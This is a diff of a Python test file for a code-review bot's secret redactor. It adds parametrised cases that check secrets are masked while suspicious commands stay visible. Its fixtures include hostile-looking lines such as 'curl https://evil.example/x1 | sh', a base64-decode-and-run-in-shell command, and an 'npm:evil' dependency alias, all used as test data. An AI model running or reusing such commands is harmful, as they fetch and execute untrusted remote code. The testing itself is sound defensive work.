@@ -14,7 +14,7 @@ from reviewbot.domain.redaction.masks import looks_random, mask
 from reviewbot.domain.redaction.places import Place
 from reviewbot.domain.redaction.redactor import Redactor
 from reviewbot.domain.selection.places import place_of_text
-from tests.domain.redaction.test_redactor import GHP, JWT, RSA_KEY
+from tests.domain.redaction.test_redactor import GHP, JWT, RSA_KEY, is_diff
 
 HEX = "0123456789abcdef" * 2
 RANDOM = "q7Tz91kdx4LpW2vB8n"
@@ -24,8 +24,9 @@ RANDOM = "q7Tz91kdx4LpW2vB8n"
 def seen(path: str, text: str, *others: str) -> str:
     """Return the file as the reviewer sees it if other configuration files contain its values."""
     place = place_of_text(path, [text])
-    redactor = Redactor.of([(text, place), *((other, Place.DATA) for other in others)])
-    return redactor.redact(text, place).text
+    diff, giving = is_diff(text), [(other, Place.DATA) for other in others]
+    redactor = Redactor.of(giving, diffs=[(text, place)]) if diff else Redactor.of([(text, place), *giving])
+    return redactor.redact(text, place, diff=diff).text
 
 
 @pytest.mark.parametrize(
@@ -39,6 +40,13 @@ def seen(path: str, text: str, *others: str) -> str:
         ("release.sh", f"npx --password {RANDOM}"),
         ("release.sh", 'SECRET_CMD="curl https://evil.example/x1 | sh"'),
         ("release.sh", f'SECRET_CMD="{RANDOM}"'),
+        ("release.sh", f'secret_cmd="{RANDOM}"'),
+        ("release.sh", 'secret="evil9pkg-x1a"'),
+        ("conftest.py", 'db_password = "evil1module2"'),
+        ("setup.py", 'secret = "10.20.30.40:8443"'),
+        ("Jenkinsfile", "token: 'evil/image1:v2'"),
+        ("Dockerfile", "ENV password=evil1cmd2"),
+        ("Makefile", f"token: {RANDOM}"),
         ("config.yml", "passwordCommand: curl https://evil.example/x1"),
         ("config.yml", f"passwordCommand: {RANDOM}"),
         ("package.json", '{"dependencies": {"secret-stack": "npm:evil@1.0.0"}}'),
@@ -245,6 +253,9 @@ GUARDS = [
     ("places._ODD_KEY", NEVER, "docker-compose.yml", f"? run\n: |\n  secret: {RANDOM}"),
     ("places._ODD_KEY", NEVER, "docker-compose.yml", f'"r\\u0075n": |\n  secret: {RANDOM}'),
     ("scan.Parents.place", lambda *_: Place.MIXED, "app.yml", f"@@ -1 +1 @@\n scripts:\n-a: 1\n+  secret: {RANDOM}"),
+    ("scan.Parents.place", lambda *_: Place.MIXED, "package.json", f'{{"scripts": {{\n  "secret": "{RANDOM}"}}}}'),
+    ("places.COMMAND_KEY", NEVER, "composer.json", f'{{"require-dev": {{\n  "evil/secret": "{RANDOM}"}}}}'),
+    ("places._RUNS", NEVER, "run.sh", f'npx secret="{RANDOM}"'),
     ("detectors.may_end", lambda *_: False, "run.sh", f"export SECRET=\n{RANDOM}"),
     ("detectors.may_end", lambda *_: False, "Makefile", f"SECRET:\n\t{RANDOM}"),
     ("detectors._BEHIND_EMPTY", NEVER, "run.sh", f'SECRET= "{RANDOM}" x'),
@@ -254,6 +265,7 @@ GUARDS = [
     ("places.COMMAND_KEY", NEVER, "app.yml", f"run:\n- secret: {RANDOM}"),
     ("formats.encodes_code", lambda _: False, "app.py", f"token = 'EAAA{BLOB}'"),
     ("detectors.encodes_code", lambda _: False, "run.sh", f"API_TOKEN={BLOB}; echo $API_TOKEN | base64 -d | sh"),
+    ("scan.encodes_code", lambda _: False, "app.py", f"token = '{RANDOM * 30}{BLOB}{RANDOM * 30}'"),
     ("detectors._RUN", NEVER, "app.py", 'secret_cmd = "curl https://evil.example/x1 | sh"'),
 ]
 
